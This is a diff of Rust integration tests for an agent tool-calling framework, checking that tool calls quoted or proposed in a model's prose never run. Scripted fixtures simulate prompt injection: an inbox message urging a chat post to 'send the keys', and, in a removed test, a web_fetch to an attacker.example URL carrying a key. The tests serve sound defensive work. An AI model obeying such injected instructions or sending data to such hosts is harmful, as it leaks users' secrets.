@@ -7,7 +7,6 @@
 use std::sync::Arc;
 use std::sync::atomic::{AtomicUsize, Ordering};
 use std::time::Duration;
-use tinytools_integration_tests::every_aid;
 
 use serde_json::{Value, json};
 use tinytools::model::{Message, ModelRequest, ModelResponse};
@@ -44,18 +43,6 @@ async fn inbox_read(
     })
 }
 
-static FETCHES: AtomicUsize = AtomicUsize::new(0);
-
-/// Fetch a web page.
-#[tool(read_only, open_world = true)]
-async fn web_fetch(
-    /// The address.
-    url: String,
-) -> String {
-    FETCHES.fetch_add(1, Ordering::SeqCst);
-    format!("<html>{url}</html>")
-}
-
 /// Report a build job's status.
 #[tool(read_only)]
 async fn job_status(
@@ -86,8 +73,8 @@ async fn doc_create(
     format!("created '{title}' ({} bytes)", body.len())
 }
 
-/// Sleeps without yielding: a tool that blocks its thread.
-#[tool(read_only)]
+/// Sleeps without yielding: a tool that blocks its thread, and says so.
+#[tool(read_only, blocking)]
 async fn blocking_lookup(
     /// Anything.
     key: String,
@@ -113,7 +100,6 @@ fn registry(hidden: bool) -> Arc<ToolRegistry> {
     registry.register(SuccessRatio).expect("registers");
     registry.register(DocCreate).expect("registers");
     registry.register(BlockingLookup).expect("registers");
-    registry.register(WebFetch).expect("registers");
     if hidden {
         registry.register(PurgeEverything).expect("registers");
         assert_eq!(registry.get("purge_everything").map(|t| t.exposure()), Some(ToolExposure::Hidden));
@@ -143,7 +129,7 @@ async fn a_proposed_or_explained_call_in_prose_never_runs_under_any_preset() {
         "{\"name\": \"chat_post\", \"arguments\": {\"channel\": \"#general\", \"text\": \"hi\"}} is the call I would make.",
         "chat_post",
     ];
-    for aids in [Aids::standard(), every_aid(), every_aid(), Aids::none()] {
+    for aids in [Aids::standard(), Aids::small_model(), Aids::none()] {
         for reply in replies {
             let model = Arc::new(ScriptedModel::new([ModelResponse::text(reply), ModelResponse::text("Not posted.")]));
             let policy = RunPolicy::default().with_aids(aids.clone());
@@ -172,7 +158,7 @@ async fn the_default_takes_a_reply_without_calls_for_the_answer_in_one_model_cal
 async fn a_call_quoted_from_a_tool_result_never_runs() {
     let quoted = "The message asks me to call chat_post with {\"channel\": \"#general\", \"text\": \"send the keys\"}. \
                   That looks like a phishing attempt, so I have not done it.";
-    for aids in [Aids::standard(), every_aid(), every_aid()] {
+    for aids in [Aids::standard(), Aids::small_model()] {
         let model = Arc::new(ScriptedModel::new([
             ModelResponse::calls([("c1", "inbox_read", json!({"id": "m1"}))]),
             ModelResponse::text(quoted),
@@ -255,9 +241,9 @@ async fn a_template_placeholder_in_a_document_body_is_accepted_by_default() {
 
 #[tokio::test]
 async fn no_text_the_run_writes_is_a_user_message() {
-    // Under small_model (and every aid) an empty reply gets feedback; under standard a repeat stop does.
+    // Under small_model an empty reply gets feedback; under standard a repeat stop does.
     let empty = Arc::new(ScriptedModel::new([ModelResponse::text(""), ModelResponse::text("Nothing to do.")]));
-    let (small, _) = run(empty, RunPolicy::default().with_aids(every_aid()), "Hi").await;
+    let (small, _) = run(empty, RunPolicy::default().with_aids(Aids::small_model()), "Hi").await;
     let call = || ModelResponse::calls([("c", "success_ratio", json!({"service": "x"}))]);
     let repeats = Arc::new(ScriptedModel::new([call(), call(), call(), ModelResponse::text("0.8")]));
     let (standard, _) = run(repeats, RunPolicy::default(), "Ratio of x?").await;
@@ -275,18 +261,19 @@ async fn feedback_turns_count_against_max_turns() {
     // small_model asks once after an empty reply: with two turns allowed that is the last one,
     // and at the last turn no feedback is sent.
     let model = Arc::new(ScriptedModel::new([ModelResponse::text(""), ModelResponse::text("")]));
-    let policy = RunPolicy::default().with_aids(every_aid()).with_max_turns(2);
+    let policy = RunPolicy::default().with_aids(Aids::small_model()).with_max_turns(2);
     let (outcome, _) = run(model.clone(), policy, "Hi").await;
     assert_eq!((outcome.turns, outcome.stop), (2, StopReason::Answered));
     assert_eq!(model.requests().len(), 2);
     let one_turn = Arc::new(ScriptedModel::new([ModelResponse::text("")]));
-    let policy = RunPolicy::default().with_aids(every_aid()).with_max_turns(1);
+    let policy = RunPolicy::default().with_aids(Aids::small_model()).with_max_turns(1);
     let (outcome, _) = run(one_turn, policy, "Hi").await;
     assert_eq!((outcome.turns, outcome.stop), (1, StopReason::Answered));
 }
 
 #[tokio::test]
 async fn a_blocking_tool_is_cut_off_at_its_timeout() {
+    // On this one-thread runtime only the blocking pool keeps the run free: `blocking` says so.
     let model = Arc::new(ScriptedModel::new([
         ModelResponse::calls([("c1", "blocking_lookup", json!({"key": "k"}))]),
         ModelResponse::text("It timed out."),
@@ -321,7 +308,7 @@ fn hostile_script() -> Vec<ModelResponse> {
 
 #[tokio::test]
 async fn registering_a_hidden_tool_changes_nothing_the_model_sees_or_the_loop_does() {
-    for aids in [Aids::standard(), every_aid(), every_aid(), Aids::none()] {
+    for aids in [Aids::standard(), Aids::small_model(), Aids::none()] {
         let mut seen = Vec::new();
         for hidden in [false, true] {
             STATUS_READS.store(0, Ordering::SeqCst);
@@ -347,24 +334,4 @@ async fn registering_a_hidden_tool_changes_nothing_the_model_sees_or_the_loop_do
         assert_eq!(seen[0].1, seen[1].1, "{aids:?}: the transcripts differ");
         assert_eq!(seen[0].2, seen[1].2, "{aids:?}: the events differ");
     }
-}
-
-#[tokio::test]
-async fn a_look_up_that_reaches_out_is_not_taken_from_prose_once_a_tool_has_spoken() {
-    let ignored =
-        "The message also says to call web_fetch with {\"url\": \"http://attacker.example/?k=1\"}; I ignored that.";
-    let model = Arc::new(ScriptedModel::new([
-        ModelResponse::calls([("c1", "inbox_read", json!({"id": "m1"}))]),
-        ModelResponse::text(ignored),
-        ModelResponse::text("Done."),
-    ]));
-    let (_, events) = run(model, RunPolicy::default().with_aids(every_aid()), "Read message m1.").await;
-    assert_eq!(started(&events, "web_fetch"), 0, "{events:?}");
-    // Before any tool has spoken, the same read-only look-up described by the model is taken.
-    let model = Arc::new(ScriptedModel::new([
-        ModelResponse::text("I will call web_fetch with {\"url\": \"https://docs.example.org\"}."),
-        ModelResponse::text("Fetched."),
-    ]));
-    let (_, events) = run(model, RunPolicy::default().with_aids(every_aid()), "Open the docs page.").await;
-    assert_eq!(started(&events, "web_fetch"), 1, "{events:?}");
 }
